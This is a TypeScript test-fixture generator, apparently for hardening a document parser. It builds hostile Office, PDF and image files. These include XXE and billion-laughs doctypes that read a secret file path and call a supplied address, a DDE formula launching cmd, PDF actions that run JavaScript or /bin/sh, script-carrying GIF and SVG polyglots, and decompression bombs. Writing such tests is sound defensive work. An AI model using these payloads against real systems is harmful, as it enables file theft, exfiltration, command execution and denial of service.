import { deflateSync } from 'node:zlib';
import {
  bytesOf,
  docxOf,
  exifOf,
  joined,
  jpegOf,
  latin1Of,
  odtOf,
  pdfOf,
  pdfOfObjects,
  pngOf,
  wordParagraph,
  xlsxOf,
  xmpOf,
  zipOf,
} from './make.ts';
import type { Nasty } from './nasty.ts';

const sentence = 'The bridge at Tell Omar was hit on Monday, residents said.';
const laughs = (secret: string, address: string) =>
  `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY s SYSTEM "file://${secret}"><!ENTITY r SYSTEM "${address}/entity"><!ENTITY % p SYSTEM "${address}/parameter">%p;]>`;

const make =
  (kind: string, path: string) =>
  (name: string, bytes: Uint8Array, code?: string): Nasty => ({
    name: `${kind}: ${name}`,
    path,
    bytes,
    ...(code === undefined ? {} : { code }),
  });

/** Word, OpenDocument, RTF and workbooks that swell, fetch, or lie. */
export async function nastyOffice(
  n: number,
  { address, secret }: { readonly address: string; readonly secret: string },
): Promise<Nasty[]> {
  const many = 2000 * n;
  const word = make('word', 'x.docx');
  const odt = make('odt', 'x.odt');
  const rtf = make('rtf', 'x.rtf');
  const sheet = make('workbook', 'x.xlsx');
  const doctype = laughs(secret, address);
  return [
    word('entities', await docxOf(wordParagraph('&g;&s;&r;') + wordParagraph(sentence), doctype)),
    word(
      'tables within tables',
      await docxOf(`${'<w:tbl><w:tr><w:tc>'.repeat(many)}${wordParagraph('x')}${'</w:tc></w:tr></w:tbl>'.repeat(many)}`),
    ),
    word(
      'runs within runs',
      await docxOf(`<w:p>${'<w:hyperlink>'.repeat(many)}<w:r><w:t>x</w:t></w:r>${'</w:hyperlink>'.repeat(many)}</w:p>`),
    ),
    word('paragraphs for ever', await docxOf(wordParagraph('x').repeat(many * 5))),
    word(
      'pictures and templates from elsewhere',
      await docxOf(
        `<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:link="rId9"/></w:drawing></w:r></w:p>${wordParagraph(sentence)}`,
        '',
        {
          'word/_rels/document.xml.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file://${secret}" TargetMode="External"/><Relationship Id="rId8" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${address}/template.dotm" TargetMode="External"/></Relationships>`,
        },
      ),
    ),
    word(
      'a field that asks for a file',
      await docxOf(`<w:p><w:r><w:instrText>INCLUDETEXT "file://${secret}"</w:instrText></w:r></w:p>${wordParagraph(sentence)}`),
    ),
    word('a document part that is a bomb', await docxOf(wordParagraph(' '.repeat(8 * 1024 * 1024))), 'reading/archive-bomb'),
    word('an empty body', await docxOf(''), 'reading/no-text'),
    word('no document part', await zipOf({ 'word/styles.xml': '<x/>', '[Content_Types].xml': '<x/>' }), 'reading/unreadable'),
    word('a macro', await docxOf(wordParagraph(sentence), '', { 'word/vbaProject.bin': 'AutoOpen' })),
    word(
      'locked by a password',
      joined(
        Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
        new Uint8Array(600),
        Buffer.from('EncryptedPackage', 'utf16le'),
      ),
      'reading/encrypted',
    ),
    odt('entities', await odtOf('<text:p>&g;&s;&r;</text:p>', doctype)),
    odt('lists within lists', await odtOf(`${'<text:list><text:list-item>'.repeat(many)}<text:p>x</text:p>`)),
    odt(
      'a thousand million columns',
      await odtOf(
        '<table:table><table:table-row table:number-rows-repeated="1000000000"><table:table-cell table:number-columns-repeated="1000000000"><text:p>x</text:p></table:table-cell></table:table-row></table:table>',
      ),
    ),
    odt('a thousand million blanks', await odtOf('<text:p>a<text:s text:c="1000000000"/>b</text:p>')),
    odt('an element that never ends', await odtOf(`<text:p ${'a'.repeat(many * 20)}`)),
    odt(
      'a script',
      await odtOf(
        `<office:scripts><script:event-listener xlink:href="${address}/x.js"/></office:scripts><text:p>${sentence}</text:p>`,
      ),
    ),
    odt(
      'locked by a password',
      await zipOf({
        mimetype: 'application/vnd.oasis.opendocument.text',
        'META-INF/manifest.xml':
          '<manifest:manifest><manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry></manifest:manifest>',
        'content.xml': Uint8Array.from({ length: 300 }, (_, i) => (i * 97) % 256),
      }),
      'reading/encrypted',
    ),
    rtf('groups within groups', latin1Of(`{\\rtf1 ${'{'.repeat(many * 20)}x`)),
    rtf('closed more often than opened', latin1Of(`{\\rtf1 ${sentence}${'}'.repeat(many * 20)}`)),
    rtf('a picture of a thousand million bytes', latin1Of(`{\\rtf1 ${sentence}\\bin1000000000 x}`)),
    rtf('characters that are none', latin1Of(`{\\rtf1\\uc99999 \\u-9999999999?\\u55357?\\'zz ${sentence}}`)),
    rtf('words for ever', latin1Of(`{\\rtf1${'\\par'.repeat(many * 20)} ${sentence}}`)),
    rtf(
      'an object to run',
      latin1Of(
        `{\\rtf1{\\object\\objautlink{\\*\\objdata 0105000002000000}}{\\field{\\*\\fldinst INCLUDEPICTURE "${address}/x"}} ${sentence}}`,
      ),
    ),
    rtf('a code page that nobody has', latin1Of(`{\\rtf1\\ansicpg99999 caf\\'e9 ${sentence}}`)),
    sheet('entities', await xlsxOf('<row><c t="s"><v>0</v></c></row>', ['&g;&s;&r;'], doctype)),
    sheet(
      'one long text named by every cell',
      await xlsxOf(`<row><c t="s"><v>0</v></c></row>`.repeat(many), ['x'.repeat(200_000)]),
      'reading/too-large',
    ),
    sheet(
      'one long text named by every cell of a row',
      await xlsxOf(`<row>${'<c t="s"><v>0</v></c>'.repeat(many)}</row>`, ['x'.repeat(200_000)]),
      'reading/too-large',
    ),
    sheet(
      'texts that are not there',
      await xlsxOf('<row><c t="s"><v>999999999</v></c><c t="s"><v>-1</v></c><c t="s"><v>x</v></c></row>', ['x']),
      'reading/empty',
    ),
    sheet('rows that never end', await xlsxOf('<row><c><v>1</v>'.repeat(many))),
    sheet('a formula that runs a program', await xlsxOf("<row><c><f>cmd|'/c calc'!A1</f><v>7</v></c></row>")),
  ];
}

/** PDFs that swell, loop, run or fetch. */
export function nastyPdfs(n: number, { address, secret }: { readonly address: string; readonly secret: string }): Nasty[] {
  const many = 2000 * n;
  const pdf = make('pdf', 'x.pdf');
  const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
  const stream = (content: string, entries = '') => `<< /Length ${content.length} ${entries} >>\nstream\n${content}\nendstream`;
  const packed = (content: Uint8Array) => Buffer.from(deflateSync(content)).toString('latin1');
  const onePage = (content: string, more: readonly string[] = [], page = '', catalogue = '') =>
    pdfOfObjects([
      `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
      '<< /Type /Pages /Count 1 /Kids [5 0 R] >>',
      font,
      content,
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> /XObject << /X1 6 0 R >> >> /Contents 4 0 R ${page} >>`,
      ...more,
    ]);
  const words = `BT /F1 11 Tf 72 700 Td (${sentence}) Tj ET`;
  const bomb = packed(new Uint8Array(20 * 1024 * 1024).fill(32));
  const bombTwice = packed(Buffer.from(bomb, 'latin1'));
  return [
    pdf('a stream that unpacks to twenty megabytes', onePage(stream(bomb, '/Filter /FlateDecode'))),
    pdf('a stream packed twice', onePage(stream(bombTwice, '/Filter [/FlateDecode /FlateDecode]'))),
    pdf('a stream packed by twenty filters', onePage(stream(words, `/Filter [${'/ASCIIHexDecode '.repeat(20)}]`))),
    pdf(
      'pages that hold themselves',
      pdfOfObjects(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Count 3 /Kids [2 0 R 2 0 R 2 0 R] >>']),
    ),
    pdf(
      'pages within pages',
      pdfOfObjects([
        '<< /Type /Catalog /Pages 2 0 R >>',
        ...Array.from({ length: 300 }, (_, i) => `<< /Type /Pages /Count 1 /Kids [${i + 3} 0 R] >>`),
        '<< /Type /Page /MediaBox [0 0 9 9] >>',
      ]),
    ),
    pdf(
      'a thousand million pages',
      pdfOfObjects(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Count 1000000000 /Kids [] >>']),
    ),
    pdf(
      'one page named again and again',
      pdfOfObjects([
        '<< /Type /Catalog /Pages 2 0 R >>',
        `<< /Type /Pages /Count 300 /Kids [${'5 0 R '.repeat(300)}] >>`,
        font,
        stream(words),
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R >>',
      ]),
    ),
    pdf(
      'a form that draws itself',
      onePage(stream('/X1 Do'), [
        stream('/X1 Do', '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X1 6 0 R >> >>'),
      ]),
    ),
    pdf('states saved and never restored', onePage(stream('q '.repeat(many * 2) + words))),
    pdf('lists within lists', onePage(stream(`${'['.repeat(many * 5)}${words}`))),
    pdf(
      'dictionaries within dictionaries',
      pdfOfObjects([`<< /Type /Catalog /Pages 2 0 R /X ${'<< /X '.repeat(many)}`, '<< /Type /Pages /Count 0 /Kids [] >>']),
    ),
    pdf('a page a million points wide', onePage(stream(words), [], '/MediaBox [0 0 1000000000 1000000000]')),
    pdf(
      'words outside the page and of no size',
      onePage(stream(`BT /F1 0 Tf 1e30 -1e30 Td (${sentence}) Tj ET BT /F1 11 Tf 1 0 0 1 NaN 5 Tm (x) Tj ET`)),
    ),
    pdf('letters for ever', onePage(stream(`BT /F1 1 Tf ${'(x) Tj 1 0 Td '.repeat(many * 2)} ET`))),
    pdf('a font that is not there', onePage(stream(words.replace('/F1', '/F9')))),
    pdf(
      'a script on opening',
      onePage(stream(words), ['<< >>'], '', `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${address}/js"\\)) >>`),
    ),
    pdf('a program on opening', onePage(stream(words), ['<< >>'], '', '/OpenAction << /S /Launch /F (/bin/sh) >>')),
    pdf('an address on opening', onePage(stream(words), ['<< >>'], '', `/OpenAction << /S /URI /URI (${address}/uri) >>`)),
    pdf('a stream from a file', onePage(`<< /Length 0 /F (${secret}) >>\nstream\n\nendstream`)),
    pdf('a stream from the network', onePage(`<< /Length 0 /F << /FS /URL /F (${address}/stream) >> >>\nstream\n\nendstream`)),
    pdf(
      'a form to be sent',
      onePage(
        stream(words),
        ['<< >>'],
        '',
        `/AcroForm << /XFA (${laughs(secret, address).replace(/[()\\]/g, '')}) /Fields [] >>`,
      ),
    ),
    pdf('a length beyond the file', onePage(`<< /Length 99999999 >>\nstream\n${words}\nendstream`)),
    pdf('a length below nothing', onePage(`<< /Length -1 >>\nstream\n${words}\nendstream`)),
    pdf(
      'a list of objects that turns round',
      latin1Of('%PDF-1.4\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 1 /Prev 9 >>\nstartxref\n9\n%%EOF'),
    ),
    pdf('a start beyond the end', latin1Of('%PDF-1.4\n1 0 obj\n<< >>\nendobj\nstartxref\n99999999\n%%EOF')),
    pdf('a head alone', latin1Of('%PDF-1.7\n'), 'reading/unreadable'),
    pdf('no pages', pdfOfObjects(['<< /Type /Catalog >>'])),
    pdf(
      'locked by a password',
      pdfOf(
        [[]],
        `/ID [<00><00>] /Encrypt << /Filter /Standard /V 1 /R 2 /Length 40 /P -4 /O <${'28'.repeat(32)}> /U <${'11'.repeat(32)}> >>`,
      ),
      'reading/encrypted',
    ),
    pdf('locked by a method that nobody knows', pdfOf([[]], '/ID [<00><00>] /Encrypt << /Filter /Nobody >>')),
    pdf(
      'a picture of forty thousand million points',
      onePage(stream('/X1 Do'), [
        stream('x', '/Type /XObject /Subtype /Image /Width 200000 /Height 200000 /BitsPerComponent 8 /ColorSpace /DeviceGray'),
      ]),
    ),
  ];
}

/** Images that state what they are not, or hide things in their fields. */
export function nastyImages(n: number, { address, secret }: { readonly address: string; readonly secret: string }): Nasty[] {
  const image = make('image', 'x.jpg');
  const many = 2000 * n;
  const loop = exifOf({ image: { 0x013b: 'Salma' } });
  // The next-directory pointer of the first directory leads back to it.
  new DataView(loop.buffer, loop.byteOffset).setUint32(8 + 2 + 3 * 12, 8, true);
  const beyond = exifOf({ image: { 0x013b: 'Salma Rashid' } });
  new DataView(beyond.buffer, beyond.byteOffset).setUint32(8 + 2 + 8, 0x7fffffff, true);
  const riff = (chunk: string, body: Uint8Array) =>
    joined('RIFF', Uint8Array.from([255, 255, 255, 127]), 'WEBP', chunk, Uint8Array.from([10, 0, 0, 0]), body);
  return [
    image('a PNG of four thousand million points', pngOf(65_535, 65_535), 'reading/image-bomb'),
    image('a PNG of the largest numbers', pngOf(0xffffffff, 0xffffffff), 'reading/image-bomb'),
    image('a PNG of no points', pngOf(0, 0)),
    image('a JPEG of four thousand million points', jpegOf({ width: 65_535, height: 65_535 }), 'reading/image-bomb'),
    image(
      'a GIF of four thousand million points',
      joined('GIF89a', Uint8Array.from([255, 255, 255, 255, 0, 0, 0])),
      'reading/image-bomb',
    ),
    image(
      'a WebP of 250 million million points',
      riff('VP8X', Uint8Array.from([0, 0, 0, 0, 255, 255, 255, 255, 255, 255])),
      'reading/image-bomb',
    ),
    image('a TIFF whose directory is beyond the end', joined('II', Uint8Array.from([42, 0, 255, 255, 255, 127]))),
    image(
      'a TIFF whose directory holds itself',
      joined('II', Uint8Array.from([42, 0, 8, 0, 0, 0, 1, 0, 0x69, 0x87, 4, 0, 1, 0, 0, 0, 8, 0, 0, 0, 8, 0, 0, 0])),
    ),
    image(
      'a TIFF of sixty thousand fields',
      joined('MM', Uint8Array.from([0, 42, 0, 0, 0, 8, 255, 255]), new Uint8Array(5000).fill(1)),
    ),
    image('a HEIC of boxes without a size', joined(Uint8Array.from([0, 0, 0, 24]), 'ftypheic', new Uint8Array(300))),
    image(
      'a HEIC that states a bomb',
      joined(
        Uint8Array.from([0, 0, 0, 24]),
        'ftypheic',
        new Uint8Array(12),
        'ispe',
        new Uint8Array(4),
        new Uint8Array(8).fill(255),
        new Uint8Array(40),
      ),
      'reading/image-bomb',
    ),
    image('an AVIF cut off', joined(Uint8Array.from([0, 0, 0, 24]), 'ftypavif')),
    image('EXIF that leads back to itself', jpegOf({ exif: loop })),
    image('EXIF beyond the end', jpegOf({ exif: beyond })),
    image('EXIF of nothing', jpegOf({ exif: new Uint8Array() })),
    image(
      'EXIF with a time that is none',
      jpegOf({ exif: exifOf({ exif: { 0x9003: '9999:99:99 99:99:99', 0x9011: '+99:99' } }) }),
    ),
    image(
      'EXIF with a position divided by nothing',
      jpegOf({
        exif: exifOf({
          gps: {
            1: 'N',
            2: [
              [1, 0],
              [0, 0],
              [0, 0],
            ],
            3: 'E',
            4: [
              [4_000_000_000, 1],
              [0, 1],
              [0, 1],
            ],
          },
        }),
      }),
    ),
    image(
      'EXIF with words turned round',
      jpegOf({ exif: exifOf({ image: { 0x013b: '\u202egpj.exe', 0x010e: '<script>x</script>' } }) }),
    ),
    image('XMP with entities', jpegOf({ xmp: `${laughs(secret, address)}${xmpOf('', '<dc:title>&g;&s;</dc:title>')}` })),
    image('XMP that never ends', jpegOf({ xmp: `<x:xmpmeta>${'<dc:title>'.repeat(many)}` })),
    image('segments of no length', Uint8Array.from([0xff, 0xd8, 0xff, 0xe1, 0, 0, 0xff, 0xe1, 0, 1])),
    image('markers for ever', joined(Uint8Array.from([0xff, 0xd8]), new Uint8Array(many * 10).fill(0xff))),
    image(
      'a PNG chunk longer than the file',
      pngOf(4, 4).map((byte, i) => (i >= 33 && i < 37 ? 0x7f : byte)),
    ),
    image(
      'a PNG text that is a bomb',
      pngOf(4, 4, [['zTXt', joined('Title\0\0', new Uint8Array(deflateSync(new Uint8Array(10 * 1024 * 1024))))]]),
    ),
    image(
      'a PNG of many chunks',
      pngOf(
        4,
        4,
        Array.from({ length: many }, () => ['tEXt', bytesOf('a\0b')] as const),
      ),
    ),
    image('a GIF that is a script', latin1Of(`GIF89a/*${'\0'.repeat(20)}*/=1;fetch("${address}/gif")`)),
    image(
      'an SVG with entities',
      bytesOf(
        `<?xml version="1.0"?>${laughs(secret, address)}<svg xmlns="http://www.w3.org/2000/svg"><text>&g;&s;</text><script>fetch("${address}/svg")</script></svg>`,
      ),
    ),
  ];
}
